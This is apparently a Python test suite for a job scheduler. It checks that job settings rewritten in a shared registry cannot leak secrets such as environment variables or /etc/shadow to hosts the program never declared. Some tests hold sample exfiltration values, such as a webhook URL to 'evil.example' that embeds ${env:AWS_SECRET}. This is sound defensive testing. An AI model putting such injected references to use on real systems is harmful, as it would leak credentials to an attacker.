"""Trust: the registry's settings hold, and have no secret sent anywhere that our own code does not name."""

from typing import Any

import pytest

from shardwright import JobConfig, Scheduler, elasticjob
from shardwright.alerts import Counts
from shardwright.errors import JobError
from shardwright.registry import Put
from shardwright.runtime.bodies import Body
from shardwright.runtime.job import trusted
from shardwright.testing import Cluster
from tests.alerts.web import Web
from tests.recipes.heard import listening, says

HOOK = {"webhook.url": "https://example.com/", "webhook.token": "${env:OURS}"}
CANARY = "s3cret-canary"


def config(**props: str) -> JobConfig:
    return JobConfig.of({"name": "job", "error_handler": "WEBHOOK", "props": {**HOOK, **props}})


def test_what_our_own_settings_have_under_the_same_key_is_looked_up() -> None:
    assert trusted(config(), config()) == config()
    assert trusted(config(more="x"), config()) == config(more="x")


@pytest.mark.parametrize("reference", ["${env:AWS_SECRET}", "${file:/etc/shadow}", "a${env:OURS}${env:B}"])
def test_what_only_the_registry_refers_to_is_not(reference: str, caplog: pytest.LogCaptureFixture) -> None:
    held = trusted(config(**{"webhook.url": f"https://evil.example/{reference}"}), config())
    assert "${" not in held.props["webhook.url"]
    assert "refer to secrets where this program's own do not" in caplog.text


def test_what_we_refer_to_elsewhere_is_not() -> None:
    assert "${" not in trusted(config(more="x ${env:OURS} y"), config()).props["more"]
    assert trusted(config(more="${env:OURS}"), config()).props["webhook.token"] == "${env:OURS}"


def test_of_a_strangers_job_nothing_is_looked_up() -> None:
    assert "${" not in trusted(config(), None).props["webhook.token"]


@pytest.fixture
def cluster(monkeypatch: pytest.MonkeyPatch) -> Cluster:
    monkeypatch.setenv("DATABASE_PASSWORD", CANARY)
    return Cluster()


def rewrite(cluster: Cluster, scheduler: Scheduler, **settings: object) -> None:
    """What a run makes of it that somebody has written other settings into the registry."""
    replica = cluster.start(scheduler)
    evil = scheduler.jobs[0].config.replace(**settings)
    node = f"{replica.registry.namespace}/job/config"
    replica.registry.commit(Put(node, elasticjob.write_config(evil)))
    cluster.advance(seconds=15)


EVERY_MINUTE: dict[str, Any] = {"cron": "10 * * * * ?", "time_zone": "UTC"}


def test_a_call_that_somebody_rewrote_in_the_registry_has_no_secret_in_it(
    cluster: Cluster, caplog: pytest.LogCaptureFixture
) -> None:
    with Web() as web:
        scheduler = Scheduler("memory://", http_allowed=["localhost"])
        scheduler.http("job", f"{web.url}/", method="POST", **EVERY_MINUTE)
        uri = f"{web.url}/${{env:DATABASE_PASSWORD}}"
        rewrite(cluster, scheduler, props={"http.uri": uri, "http.method": "POST"})
        assert web.posted.all == []
    assert "http.uri has a reference that this program does not declare there" in caplog.text
    assert CANARY not in caplog.text


@pytest.mark.parametrize("data", ["${env:DATABASE_PASSWORD}", f"password={CANARY}"])
def test_a_call_that_somebody_sent_elsewhere_takes_no_secret_along(
    data: str, cluster: Cluster, caplog: pytest.LogCaptureFixture
) -> None:
    with Web() as web:
        scheduler = Scheduler("memory://", http_allowed=["localhost"])
        scheduler.http("job", "http://127.0.0.1:9/", method="POST", data=data, **EVERY_MINUTE)
        rewrite(cluster, scheduler, props={**scheduler.jobs[0].config.props, "http.uri": web.url})
        assert web.posted.all == []
    assert "http.data is withheld: this program declares another http.uri" in caplog.text


def test_a_call_with_a_secret_may_be_changed_but_for_its_place_and_its_secret(cluster: Cluster) -> None:
    with Web() as web:
        scheduler = Scheduler("memory://", http_allowed=["localhost"])
        data = "${env:DATABASE_PASSWORD}"
        scheduler.http("job", web.url, method="PUT", data=data, **EVERY_MINUTE)
        rewrite(cluster, scheduler, props={**scheduler.jobs[0].config.props, "http.method": "POST"})
        assert [posted.body for posted in web.posted.all] == [CANARY.encode()]


@pytest.mark.parametrize("places", [None, ["spark.master"]])
def test_a_type_of_ones_own_that_somebody_sent_elsewhere_is_made_no_run(
    places: list[str] | None, cluster: Cluster, caplog: pytest.LogCaptureFixture
) -> None:
    ran: list[str] = []

    def make(config: JobConfig) -> Body:
        return lambda shard: ran.append(config.props["spark.master"])

    scheduler = Scheduler("memory://")
    scheduler.add_type("SPARK", make, places=places)
    ours = {"spark.master": "ours", "spark.password": "${env:DATABASE_PASSWORD}"}
    scheduler.typed("SPARK", "job", props=ours, **EVERY_MINUTE)
    rewrite(cluster, scheduler, props={**ours, "spark.master": "theirs"})
    assert ran == []
    assert "spark.password is withheld: this program declares another spark.master" in caplog.text


def test_one_that_says_where_it_sends_to_may_be_changed_in_all_else(cluster: Cluster) -> None:
    ran: list[str] = []

    def make(config: JobConfig) -> Body:
        return lambda shard: ran.append(config.props["spark.cores"])

    scheduler = Scheduler("memory://")
    scheduler.add_type("SPARK", make, places=["spark.master"])
    ours = {"spark.master": "ours", "spark.cores": "1", "spark.password": "${env:DATABASE_PASSWORD}"}
    scheduler.typed("SPARK", "job", props=ours, **EVERY_MINUTE)
    rewrite(cluster, scheduler, props={**ours, "spark.cores": "2"})
    assert ran == ["2"]
    with pytest.raises(JobError, match=r"places is a list of props: write \('spark.master',\)"):
        scheduler.add_type("FLINK", make, places="spark.master")


def test_a_type_that_does_not_say_where_it_sends_to_runs_on_when_only_who_hears_of_it_has_changed(
    cluster: Cluster,
) -> None:
    ran: list[int] = []
    scheduler = Scheduler("memory://")
    scheduler.add_type("SPARK", lambda config: lambda shard: ran.append(shard.item))
    ours = {
        "spark.cores": "1",
        "email.host": "mail.example",
        "email.port": "465",
        "email.username": "ops",
        "email.password": "${env:DATABASE_PASSWORD}",
        "email.from": "jobs@b.example",
        "email.to": "x@b.example",
    }
    scheduler.typed("SPARK", "job", props=ours, error_handler="EMAIL", **EVERY_MINUTE)
    rewrite(cluster, scheduler, props={**ours, "email.to": "y@b.example"})
    assert ran == [0]


def test_an_alert_that_somebody_sent_elsewhere_in_the_registry_is_in_the_log(cluster: Cluster) -> None:
    def broken() -> None:
        raise ValueError("no such customer")

    with Web() as web, listening() as heard:
        scheduler = Scheduler("memory://", http_allowed=["localhost"])
        props = {"webhook.url": "https://example.com/", "webhook.token": "${env:DATABASE_PASSWORD}"}
        scheduler.add(broken, "job", error_handler="WEBHOOK", props=props, **EVERY_MINUTE)
        rewrite(cluster, scheduler, props={**props, "webhook.url": web.url})
        heard.until(says("webhook.token is withheld: this program declares another webhook.url"))
        assert web.posted.all == []
    assert scheduler.alerts == Counts(failed=1)


def test_the_operators_list_is_asked_about_a_place_that_only_the_registry_names(cluster: Cluster) -> None:
    def broken() -> None:
        raise ValueError("no such customer")

    with Web() as web:
        for allowed, sent in ((["localhost"], 1), ([], 0)):
            scheduler = Scheduler("memory://", http_allowed=allowed)
            scheduler.add(broken, "job", **EVERY_MINUTE)
            cluster = Cluster()
            rewrite(cluster, scheduler, error_handler="WEBHOOK", props={"webhook.url": web.url})
            scheduler._desk.close()
            assert scheduler.alerts == Counts(sent=sent, failed=1 - sent)
        assert len(web.posted.all) == 1
